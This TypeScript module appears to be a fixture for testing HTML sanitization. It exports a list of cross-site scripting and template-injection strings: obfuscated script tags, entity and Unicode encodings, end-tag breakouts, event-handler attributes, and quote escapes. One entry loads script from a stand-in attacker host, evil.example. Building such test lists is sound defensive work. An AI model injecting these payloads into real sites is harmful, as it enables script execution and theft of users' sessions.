import { imagePayload, payload, scriptPayload } from './payload.ts'

const scripts = [
  scriptPayload,
  scriptPayload.toUpperCase().replace(payload.toUpperCase(), payload),
  `<ScRiPt>${payload}</sCrIpT>`,
  `<script >${payload}</script >`,
  `<script\n>${payload}</script\n>`,
  `<script\t>${payload}</script\t>`,
  `<script/x>${payload}</script/x>`,
  `<script>${payload}`,
  `<script>${payload}//`,
  `<<script>${payload}//<</script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<script type=module>${payload}</script>`,
  `<script nonce="">${payload}</script>`,
  `<script src=data:text/javascript,${payload}></script>`,
  '<script src=//evil.example/x.js></script>',
  '<script src=/assets/main.js></script>',
  `<script>top[/ow/.source+'ned']=1</script>`,
  '<script>top["\\x6f\\x77\\x6e\\x65\\x64"]=1</script>',
]

/** Encodings of the first script, which run if anything decodes them once too often. */
const encodings = [
  scriptPayload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  scriptPayload.replaceAll('<', '&LT;').replaceAll('>', '&GT;'),
  scriptPayload.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  scriptPayload.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  scriptPayload.replaceAll('<', '&#0000060').replaceAll('>', '&#0000062'),
  scriptPayload.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3e;'),
  scriptPayload.replaceAll('<', '&#X00003C;').replaceAll('>', '&#X00003E;'),
  scriptPayload.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  scriptPayload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  scriptPayload.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  scriptPayload.replaceAll('<', '\\74').replaceAll('>', '\\76'),
  scriptPayload.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  scriptPayload.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  scriptPayload.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  scriptPayload.replaceAll('<', '¼').replaceAll('>', '¾'),
  scriptPayload.replaceAll('<', '＜').replaceAll('>', '＞'),
  scriptPayload.replaceAll('<', '﹤').replaceAll('>', '﹥'),
  scriptPayload.replaceAll('<', '‹').replaceAll('>', '›'),
]

/** End tags of possible enclosing elements, followed by a payload. */
const breakouts = [
  ...['script', 'style', 'title', 'textarea', 'noscript', 'template', 'iframe', 'xmp', 'noembed', 'noframes'],
  ...['select', 'svg', 'math', 'button', 'article', 'body'],
]
  .map((element) => `</${element}>`)
  .concat('-->', '--!>', ']]>', '?>', '%>', '*/', '"}]}</script>', '</SCRIPT\t\n x>')
  .flatMap((end) => [end + scriptPayload, end + imagePayload])

const handlers = [
  ...['img src=x onerror', 'image src=x onerror', 'video src=x onerror', 'audio src=x onerror', 'svg onload'],
  ...[
    'body onload',
    'body onpageshow',
    'body onhashchange',
    'frameset onload',
    'iframe onload',
    'style onload',
  ],
  ...[
    'link rel=stylesheet href=x onerror',
    'script src=x onerror',
    'object data=x onerror',
    'embed src=/ onload',
  ],
  ...['video><source onerror', 'video><track default src=x onerror', 'input autofocus onfocus'],
  ...['input type=image src=x onerror', 'select autofocus onfocus', 'textarea autofocus onfocus'],
  ...['button autofocus onfocus', 'a href=# autofocus onfocus', 'x tabindex=1 autofocus onfocus'],
  ...['div contenteditable autofocus onfocus', 'details open ontoggle', 'marquee onstart', 'a onmouseover'],
  ...['div onpointerrawupdate', 'p onwheel', 'b ondrag draggable=true x', 'form onformdata', 'form oninput'],
  ...['dialog open onclose', 'div popover onbeforetoggle', 'div style=animation-name:x onanimationend'],
  ...[
    'div style=transition:1s ontransitionrun',
    'svg><animate attributeName=x dur=1s onbegin',
    'svg><set onend',
  ],
  ...[
    'math onclick',
    'td onclick',
    'label oncontextmenu',
    'body oncopy',
    'input onpaste',
    'div onscrollsnapchange',
  ],
].map((start) => `<${start}=${payload}>`)

const spelledHandlers = [
  `<img/src=x/onerror=${payload}>`,
  `<img\nsrc=x\nonerror=${payload}>`,
  `<img\tsrc=x\tonerror\t=\t${payload}>`,
  `<img src="x" onerror="${payload}">`,
  `<img src='x' onerror='${payload}'>`,
  `<img src=\`x\` onerror=\`${payload}\`>`,
  `<IMG SRC=x OnErRoR=${payload}>`,
  `<img src=x onerror=&#116;op.owned=1>`,
  `<img src=x onerror="&#x74;op&period;owned&equals;1">`,
  `<img src=x onerror=\\u0074op.owned=1>`,
  `<img src onerror=${payload} `,
  `<img src=x onerror=${payload}//`,
  `<img src=x:x onerror=${payload} alt="`,
  `<img """>${scriptPayload}">`,
  `<img src=1 href=1 onerror="with(top)owned=1"></img>`,
  `<img srcset=x onerror=${payload}>`,
]

/** Quotes that end an attribute or a string in a script, with and without backslashes. */
const attributes = ['"', "'", '`', '', '\\"', '&quot;'].flatMap((quote) => [
  `x${quote} onmouseover=${payload} x=${quote}`,
  `x${quote} autofocus tabindex=1 onfocus=${payload} x=${quote}`,
  `x${quote}>${imagePayload}`,
  `x${quote}/style=animation-name:x/onanimationstart=${payload}//`,
  `x${quote};${payload}//`,
])

const templates = [
  `\${${payload}}`,
  `{{${payload}}}`,
  `{{constructor.constructor('${payload}')()}}`,
  `{%import os%}{{${payload}}}`,
  `<%=${payload}%>`,
  `#{${payload}}`,
  `[[\${${payload}}]]`,
  `*{${payload}}`,
  `@{${payload}}`,
  `');${payload}//`,
  `\\');${payload}//`,
  `\u2028${payload}\u2028x`.trim(),
  `//\u2029${payload}`,
  `*/${payload}/*`,
  '__proto__',
  'constructor',
]

/** Markup that starts in the text and extends beyond it. */
export const markup: string[] = [
  ...scripts,
  ...encodings,
  ...breakouts,
  ...handlers,
  ...spelledHandlers,
  ...attributes,
  ...templates,
]
